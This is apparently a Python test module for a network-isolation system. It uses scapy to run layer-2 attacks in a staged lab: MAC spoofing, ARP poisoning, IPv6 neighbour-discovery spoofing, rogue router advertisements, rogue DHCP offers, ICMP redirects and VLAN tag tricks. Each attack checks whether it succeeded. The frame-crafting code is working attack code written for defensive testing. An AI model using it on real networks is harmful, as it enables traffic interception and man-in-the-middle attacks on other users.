"""Attacks on the link: other MACs, lies about neighbours and routers, tags, other protocols."""

import socket
import time

from assault import ALLOWED, IP, OPEN, UDP, Ether, Raw, attack, randomly4
from places import command, family_of, socket_in
from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import ICMP, IPOption_Router_Alert
from scapy.layers.inet6 import (
    IPv6, ICMPv6MLQuery, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect,
    ICMPv6NDOptDstLLAddr, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr)
from scapy.layers.l2 import ARP, Dot1AD, Dot1Q
from stage import BYSTANDER, FRIEND, MALLORY, VICTIM

ALL = "ff:ff:ff:ff:ff:ff"
ALL_NODES = "33:33:00:00:00:01"
FOREIGN = "02:66:6f:72:67:64"


def trailed(a, packet):
    """A frame with its text behind the end of the packet."""
    a.inject(bytes(packet) + b"\0" * max(0, 60 - len(packet)) + a.token())


# MACs.

@attack("mac-spoof", reasons=("spoofedLinkAddress",))
def mac_spoof(a):
    """Its own addresses and an allowed port, but frames from a MAC that nobody has."""
    for target in a.both(FRIEND):
        text = a.text()
        a.frame(a.ip(target) / UDP(sport=a.port(), dport=ALLOWED) / text, FRIEND,
                source_mac=FOREIGN)
    a.allowed("frame")


@attack("mac-steal", reasons=("spoofedLinkAddress",), fabrics=("bridged",))
def mac_steal(a):
    """Frames from victim's MAC, so that the bridge sends mallory what is meant for victim."""
    text = a.text()
    a.frame(a.ip(a.both(FRIEND)[0]) / UDP(sport=a.port(), dport=ALLOWED) / text, FRIEND,
            source_mac=a.stage.mac[VICTIM])
    time.sleep(0.02)
    a.effect("what friend sent to victim came to mallory", stolen(a, FRIEND, VICTIM))
    a.stage.announce(VICTIM)


def stolen(a, sender, receiver):
    """Whether mallory gets what one sends to the other."""
    name = f"stolen-{a.name}"
    address = a.both(receiver)[0]
    for number in range(1, 4):
        with socket_in(a.stage.path(sender), socket.AF_INET, socket.SOCK_DGRAM) as friend:
            try:
                friend.sendto(f"rf-attack-{name}-{number}.".encode(), (address, OPEN))
            except OSError:
                pass
        time.sleep(0.02)
    return "mallory" in a.stage.witness.arrivals("attack", name).places


@attack("mac-change", reasons=("spoofedLinkAddress", "conflict", "spoofed"))
def mac_change(a):
    """Gives its own interface victim's MAC, and calls friend."""
    own = a.stage.mac[MALLORY]
    a.callback(a.forget_neighbours)
    a.callback(set_mac, a, own)
    set_mac(a, a.stage.mac[VICTIM])
    a.stage.mac[MALLORY] = a.stage.mac[VICTIM]
    a.callback(a.stage.mac.__setitem__, MALLORY, own)
    time.sleep(0.2)
    for target in a.both(FRIEND):
        # ARP and discovery would be refused before: the neighbour is told.
        a.tool("ip", "neigh", "replace", target, "lladdr", a.stage.next_mac(FRIEND), "dev", "eth0",
               quiet=True)
        a.callback(a.tool, "ip", "neigh", "del", target, "dev", "eth0", quiet=True)
        a.udp(target, ALLOWED)
        a.datagram(target, ALLOWED, to=FRIEND)
    a.settle()
    a.close()
    time.sleep(0.3)
    a.stage.announce(VICTIM)
    a.stage.announce(MALLORY)
    a.allowed()


def set_mac(a, mac):
    a.tool("ip", "link", "set", "dev", "eth0", "address", mac)


# ARP.

def arp(a, operation, sender, sender_mac, target, target_mac=ALL, source_mac=None):
    """An ARP message with its text behind it."""
    trailed(a, Ether(src=source_mac or a.stage.mac[MALLORY], dst=target_mac) / ARP(
        op=operation, psrc=sender, hwsrc=sender_mac, pdst=target,
        hwdst="00:00:00:00:00:00" if target_mac == ALL else target_mac))


@attack("arp-gratuitous", reasons=("arp",), fabrics=("bridged",), on_link=True)
def arp_gratuitous(a):
    """Tells everybody that victim's and the host's addresses are at mallory's MAC."""
    a.meet(FRIEND, VICTIM, OPEN)
    for name in (VICTIM, "host"):
        address = a.forge(a.both(name)[0])
        for operation in (1, 2):
            arp(a, operation, address, a.stage.mac[MALLORY], address)
    time.sleep(0.05)
    a.effect("friend believes that victim is mallory",
             a.neighbour(FRIEND, a.both(VICTIM)[0]) == a.stage.mac[MALLORY])
    own = a.both(MALLORY)[0]
    frame = Ether(src=a.stage.mac[MALLORY], dst=ALL) / ARP(
        op=1, psrc=own, hwsrc=a.stage.mac[MALLORY], pdst=own)
    a.token("allowed")
    speaker = bytes.fromhex(a.stage.mac[MALLORY].replace(":", "")), socket.inet_aton(own)
    a.callback(a.stage.witness.speakers.pop, speaker)
    a.stage.witness.speakers[speaker] = (b"allowed", a.name.encode(), a.numbers["allowed"])
    a.inject(bytes(frame) + b"\0" * 18)
    a.control("its own gratuitous ARP arrives", a.stage.witness.until(
        lambda: a.stage.witness.arrivals("allowed", a.name).interface, 1))
    a.forget_neighbours()


@attack("arp-poison", reasons=("arp",), fabrics=("bridged",), on_link=True)
def arp_poison(a):
    """Answers bystander, who never asked or just did: friend's address is at mallory's MAC."""
    address = a.forge(a.both(FRIEND)[0])
    a.meet(BYSTANDER, FRIEND)
    for operation in (2, 1):
        arp(a, operation, address, a.stage.mac[MALLORY], a.both(BYSTANDER)[0],
            a.stage.mac[BYSTANDER])
    time.sleep(0.05)
    a.effect("bystander believes that friend is mallory",
             a.neighbour(BYSTANDER, address) == a.stage.mac[MALLORY])
    a.forget_neighbours()
    a.allowed()


@attack("arp-arping", reasons=("arp",), fabrics=("bridged",), on_link=True)
def arp_arping(a):
    """`arping -U` and `arping -A` with victim's address."""
    # arping binds to the address that it speaks for.
    switch = "echo {} > /proc/sys/net/ipv4/ip_nonlocal_bind"
    a.tool("sh", "-c", switch.format(1), quiet=True)
    a.callback(a.tool, "sh", "-c", switch.format(0), quiet=True)
    address = a.forge(a.both(VICTIM)[0])
    a.meet(FRIEND, VICTIM, OPEN)
    speaker = bytes.fromhex(a.stage.mac[MALLORY].replace(":", "")), socket.inet_aton(address)
    a.callback(a.stage.witness.speakers.pop, speaker)
    for kind in ("-U", "-A"):
        a.token()
        a.stage.witness.speakers[speaker] = (b"attack", a.name.encode(), a.numbers["attack"])
        a.tool("arping", kind, "-c", "1", "-I", "eth0", "-s", address, address, patience=0.4)
    a.effect("friend believes that victim is mallory",
             a.neighbour(FRIEND, address) == a.stage.mac[MALLORY])
    a.forget_neighbours()
    a.close()
    a.allowed()


@attack("arp-foreign-mac", reasons=("arp", "spoofedLinkAddress"),
        fabrics=("bridged",), on_link=True)
def arp_foreign_mac(a):
    """Its own address at victim's MAC, from its own frame address and from the foreign one."""
    own = a.both(MALLORY)[0]
    a.allowed()
    arp(a, 2, own, a.stage.mac[VICTIM], own)
    arp(a, 2, own, FOREIGN, own, source_mac=FOREIGN)
    time.sleep(0.05)
    a.effect("friend believes that mallory is somebody else",
             a.neighbour(FRIEND, own) in (FOREIGN, a.stage.mac[VICTIM]))
    a.forget_neighbours()


# IPv6 neighbours and routers.

def discovery(a, message, source, target, target_mac, hop_limit=255):
    """A discovery message with its text behind it."""
    trailed(a, Ether(src=a.stage.mac[MALLORY], dst=target_mac) / IPv6(
        src=source, dst=target, hlim=hop_limit) / message)


@attack("nd-advertisement", reasons=("neighbourDiscovery", "spoofed"),
        fabrics=("bridged",), on_link=True)
def nd_advertisement(a):
    """Tells bystander and everybody that friend's address is at mallory's MAC."""
    friend, bystander = a.both(FRIEND)[1], a.both(BYSTANDER)[1]
    a.meet(BYSTANDER, FRIEND)
    message = ICMPv6ND_NA(tgt=friend, R=0, S=1, O=1) / ICMPv6NDOptDstLLAddr(
        lladdr=a.stage.mac[MALLORY])
    for source in (a.both(MALLORY)[1], a.forge(friend), a.stage.local[MALLORY]):
        discovery(a, message, source, bystander, a.stage.mac[BYSTANDER])
        discovery(a, message, source, "ff02::1", ALL_NODES)
    time.sleep(0.05)
    a.effect("bystander believes that friend is mallory",
             a.neighbour(BYSTANDER, friend) == a.stage.mac[MALLORY])
    a.forget_neighbours()
    a.allowed()


@attack("nd-solicitation", reasons=("neighbourDiscovery", "spoofed"),
        fabrics=("bridged",), on_link=True)
def nd_solicitation(a):
    """Asks in friend's name with mallory's MAC, and in its own name with a foreign one."""
    friend, bystander = a.forge(a.both(FRIEND)[1]), a.both(BYSTANDER)[1]
    for source, mac in ((friend, a.stage.mac[MALLORY]), (a.both(MALLORY)[1], FOREIGN)):
        discovery(a, ICMPv6ND_NS(tgt=bystander) / ICMPv6NDOptSrcLLAddr(lladdr=mac), source,
                  bystander, a.stage.mac[BYSTANDER])
    time.sleep(0.05)
    a.effect("bystander believes that friend is mallory",
             a.neighbour(BYSTANDER, friend) == a.stage.mac[MALLORY])
    a.effect("bystander believes that mallory is nobody",
             a.neighbour(BYSTANDER, a.both(MALLORY)[1]) == FOREIGN)
    a.forget_neighbours()
    a.allowed()


@attack("rogue-router", reasons=("router", "neighbourDiscovery"),
        fabrics=("bridged",), on_link=True)
def rogue_router(a):
    """Router advertisements: a default route through mallory, and a prefix."""
    source = a.stage.local[MALLORY]
    message = ICMPv6ND_RA(routerlifetime=20, prf=1) / ICMPv6NDOptPrefixInfo(
        prefix="2001:db8:bad::", prefixlen=64, validlifetime=20, preferredlifetime=20
    ) / ICMPv6NDOptSrcLLAddr(lladdr=a.stage.mac[MALLORY])
    discovery(a, message, source, "ff02::1", ALL_NODES)
    discovery(a, message, source, a.both(VICTIM)[1], a.stage.mac[VICTIM])
    time.sleep(0.1)
    for name in (VICTIM, FRIEND, BYSTANDER):
        place = a.stage.path(name)
        _, routes = command(place, "ip", "-6", "route", "show", "proto", "ra")
        _, addresses = command(place, "ip", "-6", "address", "show", "dev", "eth0")
        a.effect(f"{name} routes through mallory", source in routes)
        a.effect(f"{name} took an address from mallory", "2001:db8:bad:" in addresses)
        if routes or "2001:db8:bad:" in addresses:
            command(place, "ip", "-6", "route", "flush", "proto", "ra")
            command(place, "ip", "-6", "address", "flush", "dev", "eth0", "dynamic")


@attack("rogue-querier", reasons=("invalid", "router", "noRule"),
        fabrics=("bridged",), on_link=True)
def rogue_querier(a):
    """Queries of a multicast router, which would make the bridge hold back others' groups."""
    discovery(a, ICMPv6MLQuery(), a.stage.local[MALLORY], "ff02::1", ALL_NODES, 1)
    trailed(a, Ether(src=a.stage.mac[MALLORY], dst="01:00:5e:00:00:01") / IP(
        src=a.both(MALLORY)[0], dst="224.0.0.1", proto=2, ttl=1, options=IPOption_Router_Alert()
    ) / Raw(b"\x11\x64\xee\x9b\0\0\0\0"))


def offer(a):
    """A DHCP server's offer of an address, with mallory as the router."""
    return BOOTP(op=2, yiaddr=randomly4(), siaddr=a.both(MALLORY)[0], xid=7) / DHCP(
        options=[("message-type", "offer"), ("router", a.both(MALLORY)[0]), "end"])


@attack("rogue-dhcp", reasons=("dhcpServer",), fabrics=("bridged",))
def rogue_dhcp(a):
    """Offers of a DHCP server, to everybody and to victim."""
    own, victim = a.both(MALLORY)[0], a.both(VICTIM)[0]
    for target, mac in (("255.255.255.255", ALL), (victim, a.stage.mac[VICTIM])):
        a.frame(IP(src=own, dst=target) / UDP(sport=67, dport=68) / offer(a) / a.text(),
                target_mac=mac)
    a.udp(victim, 68, sport=67)


@attack("rogue-dhcpv6", reasons=("dhcpServer",), fabrics=("bridged",))
def rogue_dhcpv6(a):
    """Advertisements of a DHCPv6 server."""
    own, victim = a.stage.local[MALLORY], a.stage.local[VICTIM]
    for source, target in ((own, victim), (a.both(MALLORY)[1], a.both(VICTIM)[1])):
        a.frame(a.ip(target, source) / UDP(sport=547, dport=546) /
                Raw(b"\x02\0\0\x07" + a.token()))
    a.udp(a.both(VICTIM)[1], 546, sport=547)


@attack("redirect", reasons=("router", "spoofed", "neighbourDiscovery"), fabrics=("bridged",))
def redirect(a):
    """ICMP redirects: bystander's way to the world shall lead through mallory."""
    own, victim = a.both(MALLORY), a.both(BYSTANDER)
    far = "203.0.113.9"
    for source in (a.forge(a.both("host")[0]), own[0]):
        quote = IP(src=victim[0], dst=far) / UDP(sport=1, dport=2)
        a.frame(a.ip(victim[0], source) / ICMP(type=5, code=1, gw=own[0]) / quote / a.text(),
                BYSTANDER)
    for source in (a.forge(a.both("host")[1]), a.stage.local[MALLORY]):
        discovery(a, ICMPv6ND_Redirect(tgt=a.stage.local[MALLORY], dst="2001:db8:bad::9") /
                  ICMPv6NDOptDstLLAddr(lladdr=a.stage.mac[MALLORY]), source, victim[1],
                  a.stage.mac[BYSTANDER])
    time.sleep(0.03)
    _, said = command(a.stage.path(BYSTANDER), "ip", "route", "get", far)
    a.effect("bystander's way leads through mallory", own[0] in said)
    command(a.stage.path(BYSTANDER), "ip", "route", "flush", "cache")


# Tags and other protocols.

def inner(a):
    """What a tagged or wrapped frame carries: a datagram to victim's open port."""
    text = a.text()
    return a.ip(a.both(VICTIM)[0]) / UDP(sport=a.port(), dport=OPEN) / text


@attack("vlan", reasons=("vlan",), fabrics=("bridged",), on_link=True)
def vlan(a):
    """Frames with a VLAN tag; one with number 0, which receivers take for none."""
    for number in (0, 1, 5, 4095):
        a.frame(Ether(src=a.stage.mac[MALLORY], dst=a.stage.mac[VICTIM]) / Dot1Q(vlan=number) /
                inner(a))


@attack("qinq", reasons=("vlan",), fabrics=("bridged",), on_link=True)
def qinq(a):
    """Frames with two tags."""
    for outer in (Dot1AD(vlan=5), Dot1Q(vlan=5)):
        a.frame(Ether(src=a.stage.mac[MALLORY], dst=a.stage.mac[VICTIM]) / outer / Dot1Q(vlan=7) /
                inner(a))


def ether_type(name, number, head=b""):
    """An attack by frames of another protocol, to victim and to everybody."""
    def play(a):
        for mac in (a.stage.mac[VICTIM], ALL):
            a.inject(bytes(Ether(src=a.stage.mac[MALLORY], dst=mac, type=number)) + head +
                     a.token() + b"\0" * 40)

    play.__doc__ = f"Frames of the protocol {number:#06x}."
    attack(f"ethertype-{name}", reasons=("etherType",), fabrics=("bridged",), on_link=True)(play)


for one in (("local", 0x88b5), ("lldp", 0x88cc, b"\x02\x07\x04"), ("pppoe", 0x8864, b"\x11\0\0\1"),
            ("mpls", 0x8847, b"\0\1\1\x40"), ("loopback", 0x9000), ("llc", 64, b"\xaa\xaa\x03")):
    ether_type(*one)


# Everybody at once.

def to_all(a, target, mac):
    """A datagram to a group, through the stack and below it."""
    def setup(sender):
        if family_of(target) == socket.AF_INET:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        else:
            sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, 2)
    a.udp(target, setup=setup)
    text = a.text()
    a.frame(a.ip(target) / UDP(sport=a.port(), dport=OPEN) / text, target_mac=mac)


@attack("broadcast", fabrics=("bridged",))
def broadcast(a):
    """UDP to the broadcast addresses, and to victim's address in a broadcast frame."""
    to_all(a, "255.255.255.255", ALL)
    to_all(a, "10.79.0.255", ALL)
    text = a.text()
    a.frame(a.ip(a.both(VICTIM)[0]) / UDP(sport=a.port(), dport=OPEN) / text, target_mac=ALL)


@attack("multicast4", fabrics=("bridged",))
def multicast4(a):
    """UDP to 224.0.0.1 and mDNS' group."""
    to_all(a, "224.0.0.1", "01:00:5e:00:00:01")
    to_all(a, "224.0.0.251", "01:00:5e:00:00:fb")


@attack("multicast6", fabrics=("bridged",))
def multicast6(a):
    """UDP to ff02::1, and an echo request to it."""
    to_all(a, "ff02::1", ALL_NODES)
    text = a.text()
    a.frame(a.ip("ff02::1", a.stage.local[MALLORY]) / UDP(sport=a.port(), dport=OPEN) / text,
            target_mac=ALL_NODES)
